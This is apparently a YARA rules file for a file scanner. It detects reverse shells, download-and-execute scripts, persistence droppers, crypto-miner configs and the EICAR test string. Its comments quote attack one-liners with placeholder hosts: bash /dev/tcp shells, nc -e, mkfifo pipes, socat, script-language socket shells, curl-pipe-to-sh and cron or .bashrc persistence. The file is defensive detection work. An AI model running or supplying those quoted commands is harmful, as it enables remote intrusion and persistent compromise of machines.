// Bundled YARA rules: behaviour, not mentions.
//
// A rule fires on what a file would do when run, not on words it contains. The
// shell rules need a shell context (a shell "#!" line, or a file without one that
// is neither program source, documentation, data nor a listing) and the command in
// command position (start of a line, after ; & | ( or a quote that opens a "-c" string).
// A note that names a pool, a manual that quotes a reverse shell, or a Python test
// that keeps one in a string literal therefore stays clean.
// Users add *.yar files in <data dir>/rules/.

private rule TS_Shell_Shebang
{
    strings:
        $sb = /#![ \t]*\/[^\n]{0,40}\b(ba|da|z|k|mk|a)?sh\b/
    condition:
        $sb at 0
}

private rule TS_Other_Shebang
{
    strings:
        $sb = /#![ \t]*\/[^\n]{0,40}\b(python[0-9.]*|perl|ruby|node|php|lua|tclsh|awk|gawk)\b/
    condition:
        $sb at 0
}

private rule TS_Python_Source
{
    strings:
        $import = /(^|\n)[ \t]*(import [A-Za-z_][A-Za-z0-9_.]*|from [A-Za-z_.][A-Za-z0-9_.]* import )/
        $def = /(^|\n)[ \t]*(async )?def [A-Za-z_][A-Za-z0-9_]*\(/
        $class = /\nclass [A-Za-z_][A-Za-z0-9_]*[:(]/
    condition:
        TS_Other_Shebang or 2 of them or #def > 1
}

private rule TS_Document
{
    // Documentation and other languages' sources quote commands; they do not run them.
    strings:
        $md_fence = "\n```"
        $rst = "\n.. code-block::"
        $html1 = "<html" nocase
        $html2 = "<body" nocase
        $html3 = "<pre>" nocase
        $html4 = "<code>" nocase
        $html5 = "<!doctype" nocase
        $man = /\n\.(TH|SH|Sh|Dt|Nm) /
        $c = "#include <"
        $tex = "\\begin{"
        $yara = /\nrule [A-Za-z_][A-Za-z0-9_]*\s*\{/
        // (a shell's "export NAME=…" is not JavaScript's "export const …")
        $js = /\n(export ((default|const|let|var|function|class|async|interface|type|enum|abstract|declare|namespace|import)[ \t{*(]|[{*])|module\.exports|const [A-Za-z_$][A-Za-z0-9_$]* = require\()/
        $go = /\npackage [a-z][a-z0-9_]*\n/
    condition:
        any of them
}

// ts_reads_as_text: the agent found that a file without a "#!" line opens as data, a
// listing or prose (a JSON object, YAML, a CSV header, `cat -n` or `grep -n` output, a
// patch, a README's sentence) rather than as commands, or is a shell's history of
// commands typed.
private rule TS_Shell_Context
{
    condition:
        filesize < 1MB and (TS_Shell_Shebang or
            (not TS_Other_Shebang and not TS_Python_Source and not TS_Document and
             not ts_reads_as_text))
}

rule EICAR_Test_File
{
    meta:
        severity = "high"
        description = "EICAR anti-virus test file"
    strings:
        $eicar = { 58 35 4F 21 50 25 40 41 50 5B 34 5C 50 5A 58 35 34 28 50 5E 29 37 43 43 29 37 7D 24 45 49 43 41 52 2D 53 54 41 4E 44 41 52 44 2D 41 4E 54 49 56 49 52 55 53 2D 54 45 53 54 2D 46 49 4C 45 21 24 48 2B 48 2A }
    condition:
        $eicar in (0..1024)
}

rule Reverse_Shell
{
    meta:
        severity = "high"
        description = "Script that connects a shell to a remote host (reverse shell)"
    strings:
        // bash -i >& /dev/tcp/HOST/PORT 0>&1, sh -i 5<> /dev/udp/…, bash -c 'bash -i > /dev/tcp/…'
        $devtcp_i = /(^|[\n;&|(`'"])[ \t]*(exec[ \t]+|nohup[ \t]+|setsid[ \t]+)?((\/usr)?\/bin\/)?(ba|da|z|k|a)?sh[ \t]+(-[a-z]+[ \t]+)*-[a-z]*i[a-z]*[ \t][^\n]{0,40}[<>]&?[ \t]*\/dev\/(tcp|udp)\/[^\/\s]+\/[0-9]+/
        // /bin/bash -l > /dev/tcp/HOST/PORT 0<&1 2>&1
        $devtcp_dup = /(^|[\n;&|(`'"])[ \t]*((\/usr)?\/bin\/)?(ba|da|z|k|a)?sh\b[^\n]{0,40}[<>]&?[ \t]*\/dev\/(tcp|udp)\/[^\/\s]+\/[0-9]+[ \t]+0?[<>]&[ \t]*1/
        // exec 5<>/dev/tcp/HOST/PORT; cat <&5 | while read line; do $line 2>&5 >&5; done
        $exec_fd = /(^|[\n;&|(])[ \t]*exec[ \t]+[0-9]+[ \t]*<>[ \t]*\/dev\/(tcp|udp)\/[^\/\s]+\/[0-9]+/
        $run_fd = /\b(ba|da|z|k|a)?sh[ \t]+(-i[ \t]+)?[0-9]?<&[ \t]*[0-9]+/
        $loop_fd = /while[ \t]+read[ \t]+(-r[ \t]+)?[A-Za-z_][A-Za-z0-9_]*[^\n]{0,40}do[ \t]+\$[A-Za-z_{]/
        // nc -e /bin/sh HOST PORT, nc HOST PORT -e /bin/bash, ncat --exec …, either order
        $nc_e = /(^|[\n;&|(`'"])[ \t]*((\/usr)?\/bin\/)?(nc|ncat|netcat|nc\.traditional)([ \t]+[^\n;&|]{0,80})?[ \t]+(-[a-z]*[ec]|--exec|--sh-exec)[ \t]+['"]?((\/usr)?\/bin\/)?(ba|da|z|k|a)?sh\b/
        // rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc HOST PORT > /tmp/f
        $fifo = /(mkfifo|mknod)[ \t]+[^\n]{0,160}\|[ \t]*((\/usr)?\/bin\/)?(ba|da|z|k|a)?sh\b[^\n]{0,60}\|[ \t]*(nc|ncat|netcat|telnet|openssl[ \t]+s_client)\b/
        // socat TCP:HOST:PORT EXEC:/bin/sh, socat exec:'bash -li',pty tcp:HOST:PORT
        $socat1 = /socat[ \t][^\n]{0,160}(exec|system):['"]?[^\n'" ,]{0,20}sh\b[^\n]{0,160}tcp[46]?(-connect)?:/ nocase
        $socat2 = /socat[ \t][^\n]{0,160}tcp[46]?(-connect)?:[^\n]{0,160}(exec|system):['"]?[^\n'" ,]{0,20}sh\b/ nocase
        // python -c 'import socket,os,pty;s=socket.socket();s.connect((…));os.dup2(s.fileno(),0);…;pty.spawn("/bin/sh")'
        $py_c = /python[0-9.]*[ \t]+(-[A-Za-z]+[ \t]+)*-c[ \t]*['"][^\n]{0,200}socket[^\n]{0,400}\.connect\([^\n]{0,400}dup2\([^\n]{0,400}(pty\.spawn|subprocess\.|os\.exec|os\.system|\/bin\/(ba)?sh)/
        // perl -e 'use Socket;…;open(STDIN,">&S");…;exec("/bin/sh -i");'
        $pl_e = /perl[ \t]+(-[A-Za-z]+[ \t]+)*-[A-Za-z]*e[ \t]*['"][^\n]{0,400}(socket\(|IO::Socket)[^\n]{0,400}(open\([ \t]*STDIN[ \t]*,[ \t]*["']>&|fdopen\()[^\n]{0,400}(exec|system)\b/
        // php -r '$sock=fsockopen("HOST",PORT);exec("/bin/sh -i <&3 >&3 2>&3");'
        $php_r = /php[ \t]+(-[A-Za-z]+[ \t]+)*-r[ \t]*['"][^\n]{0,200}fsockopen\([^\n]{0,300}(exec|shell_exec|system|passthru|popen|proc_open)[ \t]*\([^\n]{0,40}sh\b/
        // ruby -rsocket -e 'f=TCPSocket.open(…).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
        $rb_e = /ruby[ \t]+(-[A-Za-z]+[ \t]+)*-[A-Za-z]*e[ \t]*['"][^\n]{0,200}TCPSocket[^\n]{0,300}(exec|spawn|system)[^\n]{0,60}sh\b/
    condition:
        TS_Shell_Context and (
            $devtcp_i or $devtcp_dup or ($exec_fd and ($run_fd or $loop_fd)) or $nc_e or $fifo or
            $socat1 or $socat2 or $py_c or $pl_e or $php_r or $rb_e
        )
}

rule Reverse_Shell_Program
{
    meta:
        severity = "high"
        description = "Program that connects a shell to a remote host (reverse shell)"
    strings:
        // Python: the socket's descriptor duplicated onto standard input, then a shell, each as a statement.
        $py_connect = /\n[ \t]*[A-Za-z_][A-Za-z0-9_.]*\.connect\(\(/
        $py_dup0 = /(\n|;)[ \t]*os\.dup2\([ \t]*[A-Za-z_][A-Za-z0-9_.]*\.fileno\(\)[ \t]*,[ \t]*0[ \t]*\)/
        $py_dup_loop = /(\n|;)[ \t]*(\[[ \t]*)?(for [A-Za-z_]+ in [^\n]{0,30}:[ \t]*)?os\.dup2\([ \t]*[A-Za-z_][A-Za-z0-9_.]*\.fileno\(\)[ \t]*,[ \t]*[A-Za-z_]+[ \t]*\)/
        $py_shell = /(\n|;)[ \t]*([A-Za-z_]+[ \t]*=[ \t]*)?(pty\.spawn|subprocess\.(call|run|Popen)|os\.exec[lv]p?e?|os\.system)\([^\n]{0,40}(sh|bash)\b/
        $py_line = /(^|\n)[ \t]*import[ \t]+[^\n]{0,60}socket[^\n]{0,600}dup2\([^\n]{0,600}(pty\.spawn|subprocess\.|os\.exec|os\.system)/
        // Perl: STDIN opened onto a connected socket, then a shell.
        $pl_stdin = /\n[ \t]*open\([ \t]*STDIN[ \t]*,[ \t]*["']>&/
        $pl_exec = /\n[ \t]*(exec|system)[ \t]*\(?[ \t]*["'][^"'\n]{0,20}sh\b/
        $pl_sock = /\n[ \t]*(socket\(|[^\n]{0,40}IO::Socket::INET->new)/
        // PHP: a socket handed to a shell as its descriptors.
        $php_open = "<?php"
        $php_sock = "fsockopen("
        $php_exec = /(proc_open|exec|shell_exec|system|passthru|popen)[ \t]*\([^\n]{0,80}\/bin\/(ba)?sh[ \t]+-i/
    condition:
        filesize < 1MB and not TS_Document and (
            ($py_connect and ($py_dup0 or $py_dup_loop) and $py_shell) or $py_line or
            ($pl_sock and $pl_stdin and $pl_exec) or
            ($php_open and $php_sock and $php_exec)
        )
}

rule Download_And_Execute
{
    meta:
        severity = "high"
        description = "Script that downloads code and runs it"
    strings:
        // curl … | sh, wget -qO- … | sudo bash
        $pipe = /(^|[\n;&|(`'"])[ \t]*(curl|wget)[ \t][^\n|;&]{0,300}\|[ \t]*(sudo[ \t]+(-[A-Za-z]+[ \t]+)*)?((\/usr)?\/bin\/)?(ba|da|z|k|a)?sh\b/
        // bash -c "$(curl …)", sh <(wget -O- …)
        $subst = /\b(ba|da|z|k|a)?sh[ \t]+(-c[ \t]+)?["']?(\$\(|<\(|`)[ \t]*(curl|wget)[ \t]/
        // a download into a temporary directory, made executable and run from there
        $dl_tmp = /(curl|wget)[ \t][^\n]{0,300}(\/tmp|\/var\/tmp|\/dev\/shm)\//
        $chmod_tmp = /chmod[ \t]+(-[A-Za-z]+[ \t]+)*(\+x|[ugoa]*\+[rw]*x[rw]*|[0-7]?[0-7][0-7][1357])[ \t]+['"]?(\/tmp|\/var\/tmp|\/dev\/shm)\/[^\s'";|&]+/
        $run_tmp = /(^|[\n;&|(`])[ \t]*(nohup[ \t]+|setsid[ \t]+|exec[ \t]+)?['"]?(\/tmp|\/var\/tmp|\/dev\/shm)\/[^\s'";|&]+/
        $cd_tmp = /cd[ \t]+['"]?(\/tmp|\/var\/tmp|\/dev\/shm)\b/
        $dl = /(^|[\n;&|(`])[ \t]*(curl|wget)[ \t]/
        $chmod_rel = /chmod[ \t]+(-[A-Za-z]+[ \t]+)*(\+x|[ugoa]*\+[rw]*x[rw]*|[0-7]?[0-7][0-7][1357])[ \t]+['"]?[^\s\/'";|&]+/
        $run_rel = /(^|[\n;&|(`])[ \t]*(nohup[ \t]+|setsid[ \t]+|exec[ \t]+)?\.\/[^\s'";|&]+/
    condition:
        TS_Shell_Context and (
            $pipe or $subst or
            ($dl_tmp and $chmod_tmp and $run_tmp) or
            ($cd_tmp and $dl and $chmod_rel and $run_rel)
        )
}

rule Crypto_Miner_Config
{
    meta:
        severity = "medium"
        description = "Crypto-currency miner configuration: a mining pool with a wallet as the user"
    strings:
        $stratum = /stratum[0-9]?\+(tcp|ssl|tls):\/\//
        $pools = /["']pools["'][ \t]*:[ \t]*\[/
        // A wallet as the pool user: Monero, Bitcoin (legacy and bech32) or Ethereum address.
        $user_key = /["']?(user|username|login|wallet)["']?[ \t]*[:=][ \t]*["']?(4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}|8[1-9A-HJ-NP-Za-km-z]{94}|bc1[02-9ac-hj-np-z]{25,71}|[13][1-9A-HJ-NP-Za-km-z]{25,34}|0x[0-9a-fA-F]{40})\b/
        $user_flag = /(\s-u|--user|--userpass|--wallet)[ \t=]+["']?(4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}|8[1-9A-HJ-NP-Za-km-z]{94}|bc1[02-9ac-hj-np-z]{25,71}|[13][1-9A-HJ-NP-Za-km-z]{25,34}|0x[0-9a-fA-F]{40})\b/
    condition:
        filesize < 4MB and ($stratum or $pools) and ($user_key or $user_flag)
}

rule Persistence_Dropper
{
    meta:
        severity = "high"
        description = "Script that installs itself or a download to run at every start"
    strings:
        // (crontab -l; echo "* * * * * curl … | sh") | crontab -, echo "@reboot /tmp/.x" >> /etc/crontab
        $cron = /(echo|printf)[ \t][^\n]{0,300}(curl|wget|\/dev\/tcp\/|\/tmp\/|\/dev\/shm\/|\/var\/tmp\/|base64)[^\n]{0,300}(\|[ \t]*crontab[ \t]+-([ \t]|\n|$|;|\))|>>?[ \t]*\/(var\/spool\/cron|etc\/cron))/
        // a start-up file gains a downloader, a reverse shell or a program in a temporary directory
        $rc = /(echo|printf)[ \t][^\n]{0,300}(curl|wget|\/dev\/tcp\/|\/tmp\/|\/dev\/shm\/|\/var\/tmp\/|base64)[^\n]{0,300}>>[ \t]*['"]?(~|\$HOME|\/root|\/home\/[^\/\s]+)\/\.(bashrc|profile|bash_profile|bash_login|zshrc|zprofile)\b/
        // a user or system service, or an autostart entry, that runs something from a temporary directory or the network
        $unit_write = /(>|tee[ \t]+(-a[ \t]+)?)[ \t]*['"]?\S*(\/systemd\/(user|system)\/[^\s\/'"]+\.(service|timer)|\/\.config\/autostart\/[^\s\/'"]+\.desktop)/
        $unit_exec = /\n[ \t]*(ExecStart|ExecStartPre|Exec)=[^\n]{0,60}(\/tmp\/|\/dev\/shm\/|\/var\/tmp\/|curl |wget |\/dev\/tcp\/)/
        // echo … | base64 -d | sh
        $b64 = /base64[ \t]+(-d|--decode|-D)[^\n|]{0,40}\|[ \t]*((\/usr)?\/bin\/)?(ba|da|z|k|a)?sh\b/
    condition:
        TS_Shell_Context and ($cron or $rc or ($unit_write and $unit_exec) or $b64)
}
